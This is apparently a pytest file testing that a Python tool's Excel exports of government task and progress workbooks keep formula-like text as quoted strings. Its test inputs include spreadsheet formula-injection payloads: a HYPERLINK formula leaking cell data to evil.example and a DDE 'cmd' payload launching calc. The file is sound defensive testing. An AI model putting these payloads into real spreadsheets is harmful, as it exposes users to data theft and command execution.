"""Text that a spreadsheet could run as a formula (=HYPERLINK(…), +…, -…, @…, a leading tab or CR)
is written to every workbook as the same text, never as a formula, and reads back unchanged."""

from __future__ import annotations

import datetime as dt
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bihuan.export.ledger_books import (
    PROGRESS_SHEET,
    SHEET_HEADER,
    progress_book,
    read_progress_book,
    task_table,
)
from bihuan.export.xlsx import save_workbook, write_xlsx
from bihuan.extract.types import Document, Indicator, Plan, Section, Task
from bihuan.track.views import PlanView, Quantity, TaskLine

LINK = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
HOSTILE = (LINK, "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0")
COL = {name: k for k, name in enumerate(SHEET_HEADER, start=1)}


def _view(value: str, number: int = 1) -> PlanView:
    """A plan view whose every text field holds `value`."""
    quantity = Quantity(f"q{number}", value, 10.0, value, value)
    line = TaskLine(
        number, f"t{number}", value, value, value, (value, "财政局"), value, dt.date(2024, 6, 30), (quantity,)
    )
    return PlanView(1, value, 2024, 1, value, (line,))


def _formula_cells(path: Path) -> list[str]:
    """Every <f> (formula) element in the workbook's sheets, read from the raw XML."""
    with zipfile.ZipFile(path) as z:
        return [
            m.group()
            for name in z.namelist()
            if name.startswith("xl/worksheets/")
            for m in re.finditer(r"<f[ >].*?</f>", z.read(name).decode("utf-8"))
        ]


def _text_cells(path: Path) -> dict[str, list[tuple[str, str, bool]]]:
    """(value, data type, quote prefix) of every text cell, by sheet."""
    wb = load_workbook(path)
    return {
        ws.title: [
            (c.value, c.data_type, c.quotePrefix)
            for row in ws.iter_rows()
            for c in row
            if isinstance(c.value, str)
        ]
        for ws in wb.worksheets
    }


@pytest.mark.parametrize("value", HOSTILE)
def test_task_table_keeps_formula_text_as_text(value: str, tmp_path: Path) -> None:
    out = save_workbook(lambda: task_table(_view(value)), tmp_path / "任务分解表.xlsx")
    assert _formula_cells(out) == []
    cells = _text_cells(out)["任务分解表"]
    # area row, task text, 牵头单位, 责任领导, 量化指标; the title (the region first) and 配合单位
    assert [c[0] for c in cells].count(value) == 5, cells
    hostile = [c for c in cells if c[0].startswith(value)]
    assert len(hostile) == 7 and all(data_type == "s" and quote for _, data_type, quote in hostile), hostile
    assert (f"{value}2024年政府工作报告重点任务分解表", "s", True) in cells
    assert (f"{value}、财政局", "s", True) in cells


@pytest.mark.parametrize("value", HOSTILE)
def test_progress_book_keeps_formula_text_and_reads_it_back(value: str, tmp_path: Path) -> None:
    view = _view(value)
    out = save_workbook(lambda: progress_book(view, value, "2024-06", view.tasks), tmp_path / "报送.xlsx")
    assert _formula_cells(out) == []
    sheets = _text_cells(out)
    row = [c for c in sheets[PROGRESS_SHEET] if c[0] == value]
    assert len(row) == 3  # 重点任务, 量化指标, 计量单位
    assert all(data_type == "s" and quote for _, data_type, quote in row)
    assert (value, "s", True) in sheets["_bihuan"]  # the unit's name in the hidden sheet

    wb = load_workbook(out)
    ws = wb[PROGRESS_SHEET]
    ws.cell(3, COL["本期累计完成值"]).value = 4
    ws.cell(3, COL["进展情况"]).value = "已完成一半"
    wb.save(tmp_path / "填好.xlsx")
    book = read_progress_book(tmp_path / "填好.xlsx")
    assert (book.unit, book.period) == (value, "2024-06")
    # the reader trims the name (spaces, a tab) as for any typed cell
    assert [(r.task, r.values, r.narrative) for r in book.rows] == [("t1", {value.strip(): 4}, "已完成一半")]


def test_plan_workbook_keeps_formula_text_as_text(tmp_path: Path) -> None:
    doc = Document(
        title="=1+1", region="+示例县", plan_year=2024, report_date=None, source_format="txt", chars=10
    )
    sections = (Section("s1", "@一、重点工作", 1, (0, 5), role="tasks"),)
    indicators = tuple(
        Indicator(f"i{n}", value, "target", "2024", value, (0, 5), value=1.0, unit=value, section="s1")
        for n, value in enumerate(HOSTILE, start=1)
    )
    tasks = tuple(
        Task(f"t{n}", "s1", value, (0, 5), indicators=(f"i{n}",)) for n, value in enumerate(HOSTILE, 1)
    )
    out = write_xlsx(Plan(doc, sections, indicators, tasks, ()), tmp_path / "p.xlsx")
    assert _formula_cells(out) == []
    cells = [c for sheet in _text_cells(out).values() for c in sheet]
    for value in HOSTILE:
        found = [c for c in cells if c[0] == value]
        assert found and all(data_type == "s" and quote for _, data_type, quote in found), (value, found)
    assert ("@一、重点工作", "s", True) in cells


def test_ordinary_text_gets_no_quote_prefix(tmp_path: Path) -> None:
    out = save_workbook(lambda: task_table(_view("财政局")), tmp_path / "任务分解表.xlsx")
    cells = _text_cells(out)["任务分解表"]
    assert cells and not any(quote for *_, quote in cells)
